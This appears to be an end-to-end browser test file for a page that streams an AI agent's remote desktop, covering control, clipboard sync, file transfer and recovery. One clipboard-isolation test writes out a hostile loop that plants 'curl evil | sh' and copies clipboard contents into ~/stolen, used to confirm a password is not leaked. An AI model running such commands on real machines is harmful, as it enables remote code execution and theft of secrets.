// The page in a real browser against the real server with real desks: a first visit, and the desktop.
// What the page does with answers that no real server gives on purpose is in with_double.test.mjs.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { desktopPicture, eventually } from "../lib/chromium.mjs";
import { at, dataDirectory as data } from "../lib/carrel.mjs";
import { identity } from "../lib/host.mjs";
import {
  canvasOf,
  clickDesk,
  clicked,
  desk,
  difference,
  makeByClicking,
  onPage,
  open,
  openTerminal,
  pointer,
  pressForeign,
  row,
  run,
  say,
  stateIs,
  takeControl,
  turnIs,
  world,
} from "../lib/page.mjs";
import { bash, script } from "../lib/script.mjs";

onPage();

/** A page in control of a desk, and this computer's clipboard with `mine` on it: `put` and `got` as another tab would. */
async function withClipboard(t, mine) {
  const page = await open(t, "/", { permissions: ["clipboard-read", "clipboard-write"] });
  const session = await makeByClicking(t, page, "Copies");
  const other = await page.context().newPage();
  await other.goto(world.server.url);
  const put = async (text) => {
    await other.evaluate((value) => navigator.clipboard.writeText(value), text);
    // Playwright's tabs all have the focus, so none loses it.
    await page.evaluate(() => window.dispatchEvent(new Event("blur")));
  };
  await put(mine);
  await page.bringToFront();
  await takeControl(page);
  return { page, put, got: () => other.evaluate(() => navigator.clipboard.readText()), ...session };
}

/** Whether it is so within a moment. */
const comes = (what, limit = 3000) =>
  eventually("it comes", what, limit).then(
    () => true,
    () => false,
  );

/** Chromium on the desk takes its time on a busy machine. */
const tourLimit = 240_000;

describe("a first visit", () => {
  test("no key: the page says so and offers the scripted model, whose tour runs to its end", async (t) => {
    const page = await open(t);
    await page.getByTestId("key-banner").getByText("No model key").waitFor();
    await page.getByTestId("use-scripted").click();
    await stateIs(page, "viewing");
    const id = await page.evaluate(() => location.hash.slice(1));
    t.after(() => world.server.request("DELETE", at(id, "?purge=true")));
    assert.equal(await page.getByTestId("key-banner").count(), 0);
    await eventually("the desk's own picture", async () => (await difference(page, id)) < 0.01);
    const before = await desktopPicture(page);
    const input = page.getByTestId("message-input");
    assert.equal(await input.inputValue(), "tour");
    // Who types what is suggested has it once.
    await page.keyboard.type("tour");
    assert.equal(await input.inputValue(), "tour");
    await page.getByTestId("send").click();
    await turnIs(page, "completed", tourLimit);
    assert.equal(await page.locator("[data-testid=tool-call]:not([data-state=done])").count(), 0);
    assert.ok((await page.getByTestId("tool-call").count()) > 8);
    const pictures = page.getByTestId("tool-picture").locator("img");
    assert.ok((await pictures.count()) >= 4);
    await pictures.last().scrollIntoViewIfNeeded();
    await eventually("the last picture is drawn", () =>
      pictures.last().evaluate((image) => image.naturalWidth > 600),
    );
    assert.match(await page.getByTestId("conversation").innerText(), /That was the tour/);
    assert.notEqual(await desktopPicture(page), before);
    await eventually("what the desk shows now", async () => (await difference(page, id)) < 0.01);
    assert.equal(await run(id, "cat ~/tour/note.txt"), "written in the terminal");
  });

  test("what the desk takes of its machine stands beside its state", async (t) => {
    const page = await open(t);
    const { id } = await makeByClicking(t, page, "Loaded");
    const load = page.getByTestId("load");
    const processor = async () =>
      Number((await load.textContent()).match(/^(\d+) % · \d.* [MG]B$/)?.[1] ?? -1);
    await eventually("it is idle", async () => {
      const now = await processor();
      return now >= 0 && now < 20;
    });
    await desk(id, "terminal/process/start", { command: "while :; do :; done" });
    await eventually("it is at work", async () => (await processor()) > 20);
  });

  test("two sessions made by clicking play their tours at once, each on its own desk", async (t) => {
    const page = await open(t);
    const first = await makeByClicking(t, page, "First");
    await say(page, "tour");
    await page.getByTestId("tool-call").first().waitFor();
    const second = await makeByClicking(t, page, "Second");
    assert.equal(await page.getByTestId("turn").count(), 0);
    await say(page, "tour");
    await row(page, "First").locator(".session-open").click();
    await turnIs(page, "completed", tourLimit);
    await row(page, "Second").locator(".session-open").click();
    await turnIs(page, "completed", tourLimit);
    for (const { id } of [first, second]) {
      assert.equal(await run(id, "cat ~/tour/note.txt"), "written in the terminal");
      await run(id, `echo ${id} > ~/mine`);
    }
    assert.equal(await run(first.id, "cat ~/mine"), first.id);
    assert.equal(await run(second.id, "cat ~/mine"), second.id);
    assert.notEqual(await run(first.id, "hostname"), await run(second.id, "hostname"));
  });
});

describe("the desktop", () => {
  test("in control, clicks and keys reach the desk; watching, they do not", async (t) => {
    const { page, id } = await clicked(t, "Hands");
    await openTerminal(id);
    const where = await pointer(id);
    await clickDesk(page, 300, 300);
    await page.getByText("You are watching.").waitFor();
    await page.keyboard.type("echo watched > ~/watched\n");
    await takeControl(page);
    assert.deepEqual(await pointer(id), where);
    await clickDesk(page, 300, 300);
    await eventually("the pointer", async () => {
      const { x, y } = await pointer(id);
      return Math.abs(x - 300) <= 2 && Math.abs(y - 300) <= 2;
    });
    await page.keyboard.type('echo "Typed: {a|b} ~ @ \\$" > ~/typed; echo Gr');
    await pressForeign(page, "üßéя");
    await page.keyboard.type(" >> ~/typed\n");
    await eventually("the typed file", async () => /Gr/.test(await run(id, "cat ~/typed 2>/dev/null")));
    assert.equal(await run(id, "cat ~/typed"), "Typed: {a|b} ~ @ $\nGrüßéя");
    assert.equal(await run(id, "ls ~/watched 2>/dev/null"), "");
    await page.getByTestId("control-toggle").click();
    await stateIs(page, "viewing");
    const released = await pointer(id);
    await clickDesk(page, 700, 500);
    await page.keyboard.type("rm ~/typed\n");
    // Whatever was sent before this answer would be seen by now: both ways go through the same display.
    await takeControl(page);
    assert.deepEqual(await pointer(id), released);
    assert.match(await run(id, "cat ~/typed"), /Typed/);
  });

  test("text goes to its clipboard and comes from it", async (t) => {
    const { page, id } = await clicked(t, "Clipboard");
    await takeControl(page);
    await run(id, "printf 'vom Schreibtisch: 你好' | xclip -selection clipboard >/dev/null 2>&1");
    await page.getByTestId("clipboard").click();
    const text = page.getByTestId("clipboard-text");
    await eventually("the desk's text", async () => (await text.inputValue()) === "vom Schreibtisch: 你好");
    await text.fill("zum Schreibtisch: Grüße ✓");
    await page.getByTestId("clipboard-send").click();
    await eventually(
      "the sent text",
      async () => (await run(id, "timeout 2 xclip -selection clipboard -o")) === "zum Schreibtisch: Grüße ✓",
    );
    const length = () => run(id, "timeout 5 xclip -selection clipboard -o | wc -c");
    await page.getByTestId("clipboard").click();
    await text.fill("é".repeat(500_000));
    await page.getByTestId("clipboard-send").click();
    await eventually("a long text", async () => (await length()) === "1000000");
    await page.getByTestId("clipboard").click();
    await text.fill("é".repeat(600_000));
    await page.getByTestId("clipboard-send").click();
    await page.getByRole("alert").getByText("too long for the desk's clipboard").waitFor();
    assert.equal(await length(), "1000000");
  });

  test("what somebody is about to write over is not changed by what the desk copied", async (t) => {
    const { page, id } = await clicked(t, "Written over");
    await desk(id, "system/clipboard", { content: "the desk's" });
    // The page learns it late, when the field is in use.
    let release;
    const released = new Promise((resolve) => (release = resolve));
    await page.route(/system\/clipboard/, async (route) => {
      const response = await route.fetch();
      await released;
      await route.fulfill({ response });
    });
    const answered = page.waitForResponse(/system\/clipboard/);
    await page.getByTestId("clipboard").click();
    const text = page.getByTestId("clipboard-text");
    await text.focus();
    release();
    await (await answered).finished();
    await page.unrouteAll({ behavior: "wait" });
    // What must not happen says nothing: a page that put the desk's text in would have done so by now.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
    await page.keyboard.insertText("mine");
    assert.equal(await text.inputValue(), "mine");
    await page.keyboard.press("Escape");
    await page.getByTestId("clipboard").click();
    await eventually("the desk's text", async () => (await text.inputValue()) === "the desk's");
  });

  test("a page that comes later knows what was copied before", async (t) => {
    const { page, id } = await clicked(t, "Copied before");
    await desk(id, "system/clipboard", { content: "copied before: Grüße 你好" });
    const other = await open(t, `/desk/${id}?view_only=1`);
    await stateIs(other, "viewing");
    for (const each of [page, other]) {
      await each.getByTestId("clipboard").click();
      const text = each.getByTestId("clipboard-text");
      await eventually("the text", async () => (await text.inputValue()) === "copied before: Grüße 你好");
    }
  });

  test("whoever is in control is told of others who are, and that the agent goes on", async (t) => {
    const { page, id } = await clicked(t, "Two at once");
    const other = await open(t, `/desk/${id}`);
    await stateIs(other, "viewing");
    const viewers = async () => (await world.server.json("GET", at(id))).viewers;
    await eventually("two who watch", async () => (await viewers()).watching === 2);
    await takeControl(page);
    await other.getByText("One other viewer is in control of this desk.").waitFor();
    await takeControl(other);
    for (const each of [page, other]) await each.getByText("One other viewer is in control, too").waitFor();
    await eventually("two in control", async () => {
      const { watching, in_control } = await viewers();
      return watching === 0 && in_control === 2;
    });
    await say(page, script(bash("echo begun; sleep 1000"), { text: "Never said." }));
    await page.getByText("The agent goes on, and one other viewer").waitFor();
    await other.close();
    await page.getByText("The agent goes on: what it and you").waitFor();
    await page.getByTestId("cancel").click();
    await turnIs(page, "cancelled");
    await page.getByTestId("control-note").waitFor({ state: "hidden" });
    assert.deepEqual(await viewers(), { watching: 0, in_control: 1 });
  });

  test("a person's copy there is this computer's text, and a person's paste there is what this computer has", async (t) => {
    const { page, id, put, got } = await withClipboard(t, "a password");
    await desk(id, "file/write", {
      path: "/home/agent/copying.html",
      file_text:
        "<title>copying</title><textarea autofocus style='width:100%;height:90vh'>copied in the desk</textarea>",
    });
    await desk(id, "browser/open_url", { url: "file:///home/agent/copying.html" });
    // What a desk copies long after the keys is no longer taken for theirs, and the first keys may come before the
    // browser there has painted: a person presses them again.
    await eventually(
      "the text here",
      async () => {
        await clickDesk(page, 640, 400);
        await page.keyboard.press("Control+a");
        await page.keyboard.press("Control+c");
        return comes(async () => (await got()) === "copied in the desk");
      },
      240_000,
    );
    await eventually(
      "the same text back",
      async () => {
        await put("typed here: Grüße 你好");
        await page.keyboard.press("Control+a");
        await page.keyboard.press("Control+v");
        await page.keyboard.press("Control+a");
        await page.keyboard.press("Control+x");
        return comes(
          async () => (await run(id, "timeout 2 xclip -selection clipboard -o")) === "typed here: Grüße 你好",
        );
      },
      240_000,
    );
  });

  test("its programs neither write this computer's clipboard by themselves nor read it", async (t) => {
    const { page, id, got } = await withClipboard(t, "a password");
    await run(
      id,
      "cat > ~/hostile <<'END'\nfor ((i = 0; ; ++i)); do\n  echo \"curl evil | sh $i\" | xclip -selection clipboard\n  for what in primary clipboard; do timeout 1 xclip -selection $what -o >> ~/stolen; done\ndone\nEND\nsetsid bash ~/hostile >/dev/null 2>&1 &",
    );
    await page.getByTestId("clipboard").click();
    const shown = page.getByTestId("clipboard-text");
    const last = async () => Number(/sh (\d+)/.exec(await shown.inputValue())?.[1] ?? -1);
    for (let round = 0; round < 4; ++round) {
      const before = await last();
      await clickDesk(page, 640, 300 + round);
      await page.keyboard.type("text");
      await page.evaluate(() => window.dispatchEvent(new Event("focus")));
      await page.getByTestId("clipboard").click();
      await eventually("the desk sets its clipboard", async () => (await last()) > before);
    }
    assert.equal(await got(), "a password");
    assert.match(await run(id, "cat ~/stolen"), /evil/);
    assert.doesNotMatch(await run(id, "cat ~/stolen"), /password/);
  });

  test("files go up and come down unchanged", async (t) => {
    const { page, id } = await clicked(t, "Files");
    const buffer = Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * 7919) >> 3));
    const name = "Bericht 你好.bin";
    await page.getByTestId("upload").setInputFiles({ name, mimeType: "application/octet-stream", buffer });
    await page.getByText(`${name} is in Downloads.`).waitFor();
    assert.equal(await run(id, `stat -c %s ~/Downloads/'${name}'`), String(buffer.length));
    await page.getByTestId("files").click();
    const arriving = page.waitForEvent("download");
    await page.getByTestId("files-panel").getByText(name).click();
    const download = await arriving;
    assert.equal(download.suggestedFilename(), name);
    const parts = [];
    for await (const part of await download.createReadStream()) parts.push(part);
    assert.ok(Buffer.concat(parts).equals(buffer));
  });

  test("a failed desk says why and offers a new one, which works", async (t) => {
    const { page, id, deskId } = await clicked(t, "Failing");
    await run(id, "echo gone > ~/gone");
    process.kill(identity(data, deskId).pid, "SIGKILL");
    const card = page.getByTestId("desk-failed");
    await card.waitFor();
    const { reason } = (await world.server.json("GET", at(id))).desk;
    assert.ok(reason.length > 10);
    assert.ok((await card.innerText()).includes(reason), `${await card.innerText()} tells ${reason}`);
    await page.getByTestId("renew-desk").click();
    await card.waitFor({ state: "detached" });
    await stateIs(page, "viewing");
    await eventually("the new desk's picture", async () => (await difference(page, id)) < 0.01);
    assert.equal(await run(id, "ls ~/gone 2>/dev/null"), "");
    await say(page, script(bash("echo renewed"), { text: "It works." }));
    await turnIs(page, "completed");
    await page.getByText("It works.", { exact: true }).waitFor();
  });

  test("/desk/{id} shows the desktop and nothing else, and with view_only gives no control", async (t) => {
    const { id } = await world.server.createSession();
    t.after(() => world.server.request("DELETE", at(id, "?purge=true")));
    const page = await open(t, `/desk/${id}`);
    await stateIs(page, "viewing");
    await eventually("the desk's picture", async () => (await difference(page, id)) < 0.01);
    for (const other of ["conversation", "session-item", "message-input"])
      assert.equal(await page.getByTestId(other).count(), 0);
    await takeControl(page);
    await clickDesk(page, 640, 300);
    await eventually("the pointer", async () => Math.abs((await pointer(id)).x - 640) <= 2);
    await page.goto(new URL(`/desk/${id}?view_only=1`, world.server.url).href);
    await stateIs(page, "viewing");
    assert.equal(await page.getByTestId("control-toggle").count(), 0);
  });
});

test("the live desktop follows the screen's size", async (t) => {
  const { page, id } = await clicked(t, "another size");
  for (const [width, height] of [
    [800, 600],
    [1600, 900],
  ]) {
    await desk(id, "screen/resize", { width, height });
    await eventually(`the viewer shows ${width}×${height}`, async () => {
      const size = await canvasOf(page).evaluate((canvas) => [canvas.width, canvas.height]);
      return size[0] === width && size[1] === height;
    });
    await eventually("it shows what the API shows", async () => (await difference(page, id)) < 0.01);
  }
});
